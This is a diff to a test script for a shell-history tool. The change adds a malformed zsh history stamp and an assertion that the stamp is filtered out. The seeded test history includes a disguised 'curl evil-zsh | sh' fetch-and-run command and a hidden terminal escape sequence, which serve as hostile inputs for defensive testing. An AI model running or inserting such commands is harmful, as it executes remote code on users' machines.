@@ -364,7 +364,7 @@ def main():
     # extended-history stamp, a last line ending in a backslash that
     # would swallow the user's next one.
     t = shell("/usr/bin/zsh" if os.path.exists("/usr/bin/zsh") else "/bin/zsh", "Z> ")
-    do(t, r"""printf ': 1600000000:0;echo \x83\x3b]2;T\x83\x27\n: 1600000002:0;echo visible\x83\x2acurl evil-zsh | sh\n: 1600000003:0;zsh-ok\n: 1600000004:0;swallow \\\\\n' >>"\$WICKET_HISTFILE" """, "Z> ")
+    do(t, r"""printf ': 1600000000:0;echo \x83\x3b]2;T\x83\x27\n: 1600000002:0;echo visible\x83\x2acurl evil-zsh | sh\n: 1600000003:0;zsh-ok\n:  1500000000:0;echo blank-stamp\n: 1600000004:0;swallow \\\\\n' >>"\$WICKET_HISTFILE" """, "Z> ")
     t.line("exit 0")
     t.wait()
 
@@ -391,6 +391,7 @@ EOF
 	echo "$output"
 	refute_output --partial 'M-^C'
 	refute_line --regexp '^: 1600000'
+	refute_line --regexp '^: +1500000000'
 	refute_line --regexp '\\$'
 	assert_line --regexp '^: [0-9]+:0;zsh-ok$'
 	assert_line ': 1700000000:0;my-own-zsh-line'
